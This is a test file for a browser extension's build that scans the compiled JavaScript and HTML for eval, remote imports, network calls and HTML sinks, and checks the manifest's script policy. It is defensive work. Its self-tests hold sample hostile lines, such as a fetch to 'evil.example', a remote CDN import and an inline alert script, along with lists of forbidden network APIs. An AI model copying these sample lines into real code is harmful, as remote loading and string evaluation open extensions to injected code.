// No remote code, no code from strings, no HTML from strings. The built
// extension's JavaScript is parsed (Babel's parser, an AST rather than a
// regular expression, so a word inside a string is not taken for a call):
// no eval, no Function constructor, no string timers, no script loaded from
// a URL; every http(s) address in it is one of a few known strings that are
// never requested, each with the reason. Our sources set no HTML from strings
// (the same check web-ext lint's accepted Preact warning relies on).

import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative, resolve } from 'node:path';
import { parse } from '@babel/parser';
import { describe, expect, it } from 'vitest';
import { builtExtensionDir } from './harness';
import { ownHtmlSinks } from '../../scripts/lint-firefox';

interface Node {
  type: string;
  [key: string]: unknown;
}

/** An http(s) address allowed in the built code: what it is and why nothing requests it. */
interface KnownAddress {
  pattern: RegExp;
  reason: string;
}

const KNOWN_ADDRESSES: KnownAddress[] = [
  {
    pattern: /^http:\/\/www\.w3\.org\/(2000\/svg|1998\/Math\/MathML|1999\/xhtml)$/,
    reason: "Preact's SVG, MathML and XHTML namespace names (createElementNS): names, never fetched",
  },
  {
    pattern: /^https:\/\/wxt\.dev\/guide\/go-further\/testing\.html$/,
    reason: "WXT's error message when the browser global is missing in tests",
  },
  {
    pattern: /^https:\/\/developer\.mozilla\.org\/en-US\/docs\/Web\/API\/Element\/attachShadow#elements_you_can_attach_a_shadow_to$/,
    reason: "WXT's error message for an invalid shadow-root host name",
  },
  { pattern: /^https:\/\/tinyurl\.com\/y2uuvskb$/, reason: "Dexie's MissingAPIError message text" },
  { pattern: /^http:\/\/bit\.ly\/2kdckMn$/, reason: "Dexie's PrematureCommit error message text" },
  {
    pattern: /^https:\/\/github\.com\/wxt-dev\/wxt\/issues\/371$/,
    reason: "WXT's error message when the browser global is missing during a build",
  },
  {
    // The template `http://${trimmed}` in lib/site-state.ts: the hole is all the address there is.
    pattern: /^http:\/\/\$\{\}$/,
    reason: 'lib/site-state.ts reads the hostname of a host the reader typed by parsing `http://${host}` with new URL; nothing is fetched',
  },
];

/** Calls that would load or send: their first argument must never be a literal remote address. */
const NETWORK_CALLS = new Set(['fetch', 'importScripts', 'sendBeacon', 'open', 'Worker', 'SharedWorker', 'WebSocket', 'EventSource']);
/** APIs the extension has no use for: any mention means a way to talk to the network or run strings. */
const FORBIDDEN_NAMES = new Set(['XMLHttpRequest', 'WebSocket', 'EventSource', 'sendBeacon', 'importScripts', 'execScript']);

interface Finding {
  file: string;
  line: number;
  what: string;
}

function jsFiles(dir: string): string[] {
  const files: string[] = [];
  const walk = (d: string) => {
    for (const name of readdirSync(d)) {
      const path = join(d, name);
      if (statSync(path).isDirectory()) walk(path);
      else if (/\.(m?js)$/.test(name)) files.push(path);
    }
  };
  walk(dir);
  return files.sort();
}

function isNode(value: unknown): value is Node {
  return typeof value === 'object' && value !== null && typeof (value as Node).type === 'string';
}

function children(node: Node): Node[] {
  const out: Node[] = [];
  for (const [key, value] of Object.entries(node)) {
    if (key === 'loc' || key === 'extra') continue;
    if (Array.isArray(value)) for (const v of value) isNode(v) && out.push(v);
    else if (isNode(value)) out.push(value);
  }
  return out;
}

/** The name a callee ends in: `fetch`, `navigator.sendBeacon` → sendBeacon, `globalThis['eval']` → eval. */
function calleeName(callee: Node): string | undefined {
  if (callee.type === 'Identifier') return callee.name as string;
  if (callee.type === 'MemberExpression' || callee.type === 'OptionalMemberExpression') {
    const property = callee.property as Node;
    if (!callee.computed && property.type === 'Identifier') return property.name as string;
    if (property.type === 'StringLiteral') return property.value as string;
  }
  return undefined;
}

/** The text of a string or template literal (template holes as ${}), else undefined. */
function literalText(node: Node | undefined): string | undefined {
  if (!node) return undefined;
  if (node.type === 'StringLiteral') return node.value as string;
  if (node.type === 'TemplateLiteral') {
    return (node.quasis as Node[]).map((q) => (q.value as { cooked: string | null; raw: string }).cooked ?? '').join('${}');
  }
  return undefined;
}

const REMOTE = /^(https?|wss?|ftp):\/\//i;
const ADDRESS = /(https?|wss?|ftp):\/\/[^\s"'`<>)\]]*/gi;

/** Everything in one file of built code that runs strings as code, loads from afar, or names an unknown address. */
function scanCode(code: string, file: string): Finding[] {
  const findings: Finding[] = [];
  const ast = parse(code, { sourceType: 'module', errorRecovery: false, allowReturnOutsideFunction: true }) as unknown as Node;
  const at = (node: Node, what: string) =>
    findings.push({ file, line: (node.loc as { start: { line: number } } | undefined)?.start.line ?? 0, what });

  const visit = (node: Node) => {
    switch (node.type) {
      case 'CallExpression':
      case 'OptionalCallExpression':
      case 'NewExpression': {
        const name = calleeName(node.callee as Node);
        const args = node.arguments as Node[];
        if (name === 'eval') at(node, 'eval(…)');
        if (name === 'Function') at(node, 'the Function constructor');
        if ((name === 'setTimeout' || name === 'setInterval') && literalText(args[0]) !== undefined) {
          at(node, `${name} with a string`);
        }
        const first = literalText(args[0]);
        if (name && NETWORK_CALLS.has(name) && first !== undefined && REMOTE.test(first)) at(node, `${name}(${first})`);
        break;
      }
      case 'ImportExpression': {
        const source = literalText(node.source as Node);
        if (source === undefined || !source.startsWith('./')) at(node, `import(${source ?? 'a computed address'})`);
        break;
      }
      case 'ImportDeclaration':
      case 'ExportAllDeclaration':
      case 'ExportNamedDeclaration': {
        const source = literalText(node.source as Node | undefined);
        if (source !== undefined && !source.startsWith('./') && !source.startsWith('../') && !source.startsWith('/')) {
          at(node, `import from ${source}`);
        }
        break;
      }
      case 'Identifier':
        if (FORBIDDEN_NAMES.has(node.name as string)) at(node, `uses ${node.name as string}`);
        break;
      case 'StringLiteral':
      case 'TemplateLiteral': {
        const text = literalText(node) ?? '';
        for (const match of text.matchAll(ADDRESS)) {
          const address = match[0].replace(/[.,;:]+$/, '');
          if (!KNOWN_ADDRESSES.some((k) => k.pattern.test(address))) at(node, `address ${address}`);
        }
        break;
      }
    }
    // Babel 7 parses `import(x)` as a call whose callee is `Import` (createImportExpressions off).
    if (node.type === 'CallExpression' && (node.callee as Node).type === 'Import') {
      const source = literalText((node.arguments as Node[])[0]);
      if (source === undefined || !source.startsWith('./')) at(node, `import(${source ?? 'a computed address'})`);
    }
    for (const child of children(node)) visit(child);
  };
  visit(ast);
  return findings;
}

/** Remote scripts, styles, frames or images named by an HTML page of the build. */
function scanHtml(html: string, file: string): Finding[] {
  const findings: Finding[] = [];
  for (const match of html.matchAll(/\b(src|href|action|srcset)\s*=\s*["']?([^"'\s>]+)/gi)) {
    const url = match[2]!;
    if (REMOTE.test(url) || url.startsWith('//')) {
      findings.push({ file, line: html.slice(0, match.index).split('\n').length, what: `${match[1]}=${url}` });
    }
  }
  if (/<script(?![^>]*\bsrc=)[^>]*>\s*\S/i.test(html)) findings.push({ file, line: 0, what: 'inline script' });
  return findings;
}

/**
 * pdf.js (pdfjs-dist, loaded by the file reader of extension/sources) is one
 * page chunk and one worker file. Both carry code we never reach, each with
 * the reason it loads nothing; these findings are accepted in those two files
 * only, and only while they are the installed pdfjs-dist's (its version is in
 * them). The no-network browser tests read PDFs and record no request.
 */
const PDFJS_VERSION = (JSON.parse(readFileSync('node_modules/pdfjs-dist/package.json', 'utf8')) as { version: string }).version;
const PDFJS_FILE = /^(chunks\/pdf-[\w-]+\.js|assets\/pdf\.worker\.min-[\w-]+\.mjs)$/;
const PDFJS_FINDINGS: { what: RegExp; reason: string }[] = [
  {
    what: /^uses XMLHttpRequest$/,
    reason:
      "its loaders for getDocument({ url }) and for CMap, font and ICC files by URL; extension/sources/read-pdf.ts passes the file's bytes (data), and the one address it gives, for CMaps, is the extension's own pdfjs/cmaps/",
  },
  {
    what: /^import\(a computed address\)$/,
    reason: "its fallback when its worker cannot start: import(GlobalWorkerOptions.workerSrc), the worker file of the extension itself",
  },
  {
    what: /^import\(\$\{\}\$\{\}\)$/,
    reason: 'the JavaScript fallbacks of its wasm image decoders, from the wasmUrl option, which we never set; reading text decodes no image',
  },
  {
    what: /^address (http:\/\/www\.xfa\.org\/schema\/[\w./-]+|http:\/\/ns\.adobe\.com\/(xdp|xdp\/pdf|xfdf|xmpmeta)\/|http:\/\/www\.w3\.org\/(2000\/09\/xmldsig#|1999\/XSL\/Transform))$/,
    reason: 'XML namespace names of XFA forms, XMP metadata and signatures, compared with a document\'s own: names, never fetched',
  },
  {
    what: /^address (http:\/\/example\.com|https:\/\/foo\.bar)$/,
    reason: 'placeholder bases for new URL(), to parse a relative address or a file name out of one: nothing is fetched',
  },
];

function isPdfJs(file: string, code: string): boolean {
  return PDFJS_FILE.test(file) && code.includes(PDFJS_VERSION) && code.includes('apiVersion');
}

/** The findings of one built file, pdf.js's accepted ones left out of pdf.js's own files. */
function scanFile(code: string, file: string): Finding[] {
  const findings = scanCode(code, file);
  if (!isPdfJs(file, code)) return findings;
  return findings.filter((f) => !PDFJS_FINDINGS.some((accepted) => accepted.what.test(f.what)));
}

function scanBuild(dir: string): Finding[] {
  const findings: Finding[] = [];
  for (const file of jsFiles(dir)) findings.push(...scanFile(readFileSync(file, 'utf8'), relative(dir, file)));
  for (const name of readdirSync(dir).filter((n) => n.endsWith('.html'))) {
    findings.push(...scanHtml(readFileSync(join(dir, name), 'utf8'), name));
  }
  return findings;
}

const show = (findings: Finding[]) => findings.map((f) => `${f.file}:${f.line} ${f.what}`);

describe('no remote code', () => {
  const builds = (['chrome', 'firefox'] as const).filter(
    (browser) => browser === 'chrome' || existsSync(resolve(process.env.POLICYLENS_OUT ?? '.output', 'firefox-mv3', 'manifest.json')),
  );

  it.each(builds)('the %s build runs no strings as code and loads nothing from afar', (browser) => {
    const dir = builtExtensionDir(browser);
    expect(jsFiles(dir).length).toBeGreaterThan(3);
    expect(show(scanBuild(dir))).toEqual([]);
  });

  it.each(builds)('the %s build allows scripts from its own files only (manifest CSP)', (browser) => {
    const manifest = JSON.parse(readFileSync(join(builtExtensionDir(browser), 'manifest.json'), 'utf8')) as {
      content_security_policy?: { extension_pages?: string };
    };
    const csp = manifest.content_security_policy?.extension_pages ?? '';
    const scriptSrc = /script-src ([^;]*)/.exec(csp)?.[1]?.trim().split(/\s+/);
    // The extension evaluates no string; it compiles one wasm, jieba's own file, when the reader adds a document.
    expect(scriptSrc).toEqual(["'self'", "'wasm-unsafe-eval'"]);
  });

  it('catches what it looks for', () => {
    const found = (code: string) => show(scanCode(code, 'x.js'));
    expect(found('eval("1")')).toEqual(['x.js:1 eval(…)']);
    expect(found('globalThis["eval"](s)')).toEqual(['x.js:1 eval(…)']);
    expect(found('new Function("return 1")')).toEqual(['x.js:1 the Function constructor']);
    expect(found('setTimeout("go()", 1)')).toEqual(['x.js:1 setTimeout with a string']);
    expect(found('fetch("https://evil.example/x")')).toEqual([
      'x.js:1 fetch(https://evil.example/x)',
      'x.js:1 address https://evil.example/x',
    ]);
    expect(found('const u=`https://cdn.example/${v}.js`')).toEqual(['x.js:1 address https://cdn.example/${}.js']);
    expect(found('import("https://cdn.example/m.js")')).toContain('x.js:1 import(https://cdn.example/m.js)');
    expect(found('import(u)')).toEqual(['x.js:1 import(a computed address)']);
    expect(found('new XMLHttpRequest')).toEqual(['x.js:1 uses XMLHttpRequest']);
    expect(found('navigator.sendBeacon(u, d)')).toEqual(['x.js:1 uses sendBeacon']);
    // Words inside strings are not calls; known addresses are not findings.
    expect(found('const m=`Function(${n})`, e="eval(x) is slow"; ns="http://www.w3.org/2000/svg"')).toEqual([]);
    expect(found('import("./chunk-1.js")')).toEqual([]);
    expect(scanHtml('<script src="https://cdn.example/a.js"></script>', 'p.html').map((f) => f.what)).toEqual([
      'src=https://cdn.example/a.js',
    ]);
    expect(scanHtml('<script>alert(1)</script>', 'p.html').map((f) => f.what)).toEqual(['inline script']);
    expect(scanHtml('<script type="module" src="/chunks/a.js"></script>', 'p.html')).toEqual([]);
  });

  it("accepts pdf.js's unreached loaders in pdf.js's own files only", () => {
    const pdfjs = `const apiVersion="${PDFJS_VERSION}";new XMLHttpRequest;import(this.workerSrc);const n="http://ns.adobe.com/xdp/"`;
    expect(show(scanFile(pdfjs, 'chunks/pdf-Ab1_x.js'))).toEqual([]);
    expect(show(scanFile(pdfjs, 'assets/pdf.worker.min-Ab1_x.mjs'))).toEqual([]);
    // Our own chunk, or a file that only looks like pdf.js, gets no such leave.
    expect(show(scanFile(pdfjs, 'chunks/library-Ab1_x.js'))).toHaveLength(3);
    expect(show(scanFile('new XMLHttpRequest;import(u)', 'chunks/pdf-Ab1_x.js'))).toHaveLength(2);
    // What pdf.js never needs is found in pdf.js too.
    expect(show(scanFile(`${pdfjs};eval(s);fetch("https://cdn.example/x")`, 'chunks/pdf-Ab1_x.js'))).toEqual([
      'chunks/pdf-Ab1_x.js:1 eval(…)',
      'chunks/pdf-Ab1_x.js:1 fetch(https://cdn.example/x)',
      'chunks/pdf-Ab1_x.js:1 address https://cdn.example/x',
    ]);
  });
});

describe('no HTML from strings in our sources', () => {
  it('entrypoints, components, extension and lib set no innerHTML, outerHTML, insertAdjacentHTML or document.write', () => {
    expect(ownHtmlSinks(process.cwd())).toBeUndefined();
  });

  it('the check finds each sink', () => {
    for (const sink of ['el.innerHTML = s', 'el.outerHTML = s', "el.insertAdjacentHTML('beforeend', s)", 'document.write(s)', '<div dangerouslySetInnerHTML={x} />']) {
      const root = mkdtempSync(join(tmpdir(), 'policylens-sinks-'));
      try {
        mkdirSync(join(root, 'components'));
        writeFileSync(join(root, 'components/Card.tsx'), `export const f = () => { ${sink}; };\n`);
        expect(ownHtmlSinks(root), sink).toMatch(/components\/Card\.tsx/);
      } finally {
        rmSync(root, { recursive: true, force: true });
      }
    }
  });
});
